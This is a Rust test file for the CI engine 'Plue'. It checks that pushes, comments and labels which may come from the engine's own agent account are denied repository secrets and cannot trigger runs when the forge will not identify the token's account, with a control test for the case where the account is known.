    push["sender"]["login"] = json!("plue-writer");
    let answer = world.deliver("github", "push", "l-4", &push).await;
    assert_eq!(
        world.secrets_of(&answer, false).await,
        ["none\n"],
        "{answer}"
    );
    drop(world.sb);
}

/// The forge will not say which account the engine's token is: `GET /user` answers
/// `status` (GitHub answers 403 to every GitHub App installation token; any forge may
/// answer 500). The engine's push of an agent's branch, the pull request it opens and the
/// comment it posts then look like anyone's — and, before the fix, were trusted as
/// anyone's: the branch ran with the repository's secret and the comment, by an account
/// that may write, summoned a run. Now nothing that might be the engine's is trusted.
async fn an_engine_that_cannot_say_who_it_is_trusts_nothing(status: u16) {
    let _serial = serial().await;
    let world = World::new().await;
    {
        let mut stub = world.stub.lock().unwrap();
        stub.user_status = Some(status);
        // The token's account may write, as it must to comment and label.
        stub.permissions
            .insert("plue-writer".into(), "write".into());
    }
    let main_sha = world.add_ci();
    let branch = "plue/comment-1-fix";
    let head = world.agent_branch(branch);
    let nothing = |answer: &Value, what: &str| {
        assert_eq!(
            support::run_ids(answer),
            Vec::<i64>::new(),
            "{what}: {answer}"
        );
        assert!(
            answer["refused"]
                .to_string()
                .contains("Plue cannot tell which forge account it writes as"),
            "{what}: {answer}"
        );
    };

    // (a) The engine's push of the agent's branch, and its pull request: runs without the
    // secret.
    let push = github_push("plue-writer", &format!("refs/heads/{branch}"), &head);
    let answer = world.deliver("github", "push", "u-1", &push).await;
    assert_eq!(
        world.secrets_of(&answer, false).await,
        ["none\n"],
        "{answer}"
    );
    let opened = github_pull_request(8, "plue-writer", branch, &head, &main_sha);
    let answer = world
        .deliver("github", "pull_request", "u-2", &opened)
        .await;
    assert_eq!(
        world.secrets_of(&answer, false).await,
        ["none\n"],
        "{answer}"
    );
    // Any push might be the engine's: a push to main by any name runs without it too.
    let push = github_push("Codertocat", "refs/heads/main", &main_sha);
    let answer = world.deliver("github", "push", "u-3", &push).await;
    assert_eq!(
        world.secrets_of(&answer, false).await,
        ["none\n"],
        "{answer}"
    );

    // (b) A comment posted with the engine's token (its account, no marker: an agent's
    // text), on a trigger for writers and on one that takes anyone untrusted: nothing.
    let own = github_comment("plue-writer", "COLLABORATOR", "/plue echo", 1, false);
    nothing(&world.comment("u-4", &own).await, "the engine's comment");
    let own = github_comment("plue-writer", "COLLABORATOR", "/plue try", 1, false);
    nothing(
        &world.comment("u-5", &own).await,
        "the engine's comment, untrusted",
    );
    // A label the engine's account adds, on both forges.
    let mut labeled = fixture_on("github/issues-labeled.json", REPO);
    labeled["label"]["name"] = json!("plue");
    labeled["sender"]["login"] = json!("plue-writer");
    let answer = world.deliver("github", "issues", "u-6", &labeled).await;
    nothing(&answer, "the engine's GitHub label");
    let mut relabeled = fixture_on("gitea/issues-label_updated.json", GITEA_REPO);
    relabeled["issue"]["labels"][0]["name"] = json!("plue");
    relabeled["sender"]["login"] = json!("plue-writer");
    let answer = world.deliver("gitea", "issues", "u-7", &relabeled).await;
    nothing(&answer, "the engine's Gitea label");
    // Any comment might be the engine's: the owner's summons nothing either, until the
    // forge says.
    let owner = github_comment("Codertocat", "OWNER", "/plue echo", 1, false);
    nothing(&world.comment("u-8", &owner).await, "the owner's comment");

    // (c) The engine says why, on /api/forges.
    for repo in [REPO, GITEA_REPO] {
        let entry = world.identity_of(repo).await;
        assert_eq!(entry["identity"], "unknown", "{entry}");
        assert_eq!(entry["login"], Value::Null, "{entry}");
        let reason = entry["reason"].as_str().unwrap_or_default();
        assert!(
            reason.contains(&format!("HTTP {status}")) && reason.contains("/user"),
            "{entry}"
        );
        assert!(!entry.to_string().contains(FORGE_TOKEN), "{entry}");
    }
    drop(world.sb);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_the_forge_will_not_name_403_trusts_nothing() {
    an_engine_that_cannot_say_who_it_is_trusts_nothing(403).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forge_failing_to_name_the_token_500_trusts_nothing() {
    an_engine_that_cannot_say_who_it_is_trusts_nothing(500).await;
}

/// The control: where the forge names the token's account, a writer's comment summons a
/// run with the secret and a person's push gets it, while the engine's own comment and
/// push do not; `GET /api/forges` names the account (and a repository without a token has
/// nothing of the engine's).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_known_engine_still_lets_a_writer_summon() {
    let _serial = serial().await;
    let world = World::new().await;
    world.forge_says("plue-writer", "write");
    world.forge_says("wes", "write");
    let main_sha = world.add_ci();
    let branch = "plue/comment-2-fix";
    let head = world.agent_branch(branch);

    let writer = github_comment("wes", "COLLABORATOR", "/plue echo", 1, false);
    let answer = world.comment("k-1", &writer).await;
    let (id, run) = world.the_one_run(&answer).await;
    assert_eq!(run["secrets_allowed"], true, "{run}");
    assert_eq!(wrote(&world.shared, id, "secret"), "has\n");
    let own = github_comment("plue-writer", "COLLABORATOR", "/plue echo", 1, false);
    let answer = world.comment("k-2", &own).await;
    assert_eq!(support::run_ids(&answer), Vec::<i64>::new(), "{answer}");

    let push = github_push("Codertocat", "refs/heads/main", &main_sha);
    let answer = world.deliver("github", "push", "k-3", &push).await;
    assert_eq!(world.secrets_of(&answer, true).await, ["has\n"], "{answer}");
    let push = github_push("plue-writer", &format!("refs/heads/{branch}"), &head);
    let answer = world.deliver("github", "push", "k-4", &push).await;
    assert_eq!(
        world.secrets_of(&answer, false).await,
        ["none\n"],
        "{answer}"
    );

    let tokenless = client()
        .post(format!("{}/api/repos", world.url))
        .json(&json!({
            "name": "octo/tokenless",
            "forge": "github",
            "clone_url": world.origin.to_str().unwrap(),
            "webhook_secret": SECRET,
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(tokenless.status(), 201);
    for repo in [REPO, GITEA_REPO] {
        let entry = world.identity_of(repo).await;
        assert_eq!(entry["identity"], "known", "{entry}");
        assert_eq!(entry["login"], "plue-writer", "{entry}");
        assert_eq!(entry["reason"], Value::Null, "{entry}");
    }
    let entry = world.identity_of("octo/tokenless").await;
    assert_eq!(entry["identity"], "no_token", "{entry}");
    // Private repositories: listed to no one who may not read them.
    let anonymous = reqwest::Client::new()
        .get(format!("{}/api/forges", world.url))
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous.status(), 200);
    assert_eq!(anonymous.json::<Value>().await.unwrap(), json!([]));
    drop(world.sb);
}
